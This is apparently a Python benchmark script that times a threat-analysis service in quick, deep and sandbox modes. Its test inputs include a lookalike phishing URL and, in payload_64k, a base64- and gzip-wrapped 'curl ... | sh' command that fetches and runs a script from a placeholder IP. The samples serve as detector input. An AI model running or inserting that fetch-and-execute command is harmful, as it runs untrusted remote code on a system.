"""Threat analysis figures, in process (the service layer with an in-memory store and no feeds).

- quick mode on a URL and on an IP: p50 / p95 and analyses per second (one core, sequential);
- deep mode on a 64 KB payload (layers of base64 and gzip around shell commands): p95;
- sandbox mode: the child process's peak memory (RSS) and the wall time of one analysis.

Through the gateway the figures add the HTTP and gRPC hops (~1 ms here); they are not measured
by this script. Run: ``uv run python bench/analysis_bench.py [--n N]``.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import gzip
import random
import statistics
import time

from rampart_threat.analysis.domain import Kind, Mode
from rampart_threat.analysis.feeds import NoFeeds
from rampart_threat.analysis.repository import InMemoryAnalysisRepository
from rampart_threat.analysis.service import AnalysisService, AnalyzeRequest


def payload_64k() -> str:
    rng = random.Random(7)
    lines = []
    while sum(len(line) + 1 for line in lines) < 40_000:
        word = rng.choice(["INFO request ok", "GET /index.html 200", "user=alice action=login", "cache miss"])
        lines.append(f"2024-05-01T10:00:{rng.randrange(60):02d}Z {word} id={rng.randrange(10**9)}")
    inner = base64.b64encode(gzip.compress(b"curl -s http://192.0.2.9/x.sh | sh\n" * 50)).decode()
    text = "\n".join(lines) + "\n" + inner + "\n"
    return (text * 2)[: 64 * 1024]


async def timed(service: AnalysisService, request: AnalyzeRequest, n: int) -> list[float]:
    await service.analyze(request)  # warm caches (suffix list, look-alike table, rules)
    out = []
    for _ in range(n):
        started = time.perf_counter()
        await service.analyze(request)
        out.append((time.perf_counter() - started) * 1000)
    return out


def line(name: str, samples: list[float]) -> None:
    p50 = statistics.median(samples)
    p95 = statistics.quantiles(samples, n=20)[-1]
    rate = len(samples) / (sum(samples) / 1000)
    print(f"{name:34} p50 {p50:7.3f} ms  p95 {p95:7.3f} ms  {rate:8.0f} analyses/s (n={len(samples)})")


async def main(n: int) -> None:
    service = AnalysisService(InMemoryAnalysisRepository(), NoFeeds())
    url = AnalyzeRequest(
        "org", "usr", "http://paypa1-secure-login.xyz/webscr/verify.php?u=a", None, Mode.QUICK
    )
    line("quick, URL", await timed(service, url, n))
    line("quick, IP", await timed(service, AnalyzeRequest("org", "usr", "203.0.113.7", None, Mode.QUICK), n))
    big = AnalyzeRequest("org", "usr", payload_64k(), Kind.PAYLOAD, Mode.DEEP)
    line("deep, 64 KB payload", await timed(service, big, max(20, n // 50)))
    started = time.perf_counter()
    sandboxed = await service.analyze(AnalyzeRequest("org", "usr", payload_64k(), Kind.PAYLOAD, Mode.SANDBOX))
    wall = (time.perf_counter() - started) * 1000
    note = next(limit for limit in sandboxed.limits if limit.startswith("sandbox:"))
    print(f"sandbox, 64 KB payload: {wall:.0f} ms wall (process start included); {note}")


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--n", type=int, default=2000)
    asyncio.run(main(parser.parse_args().n))
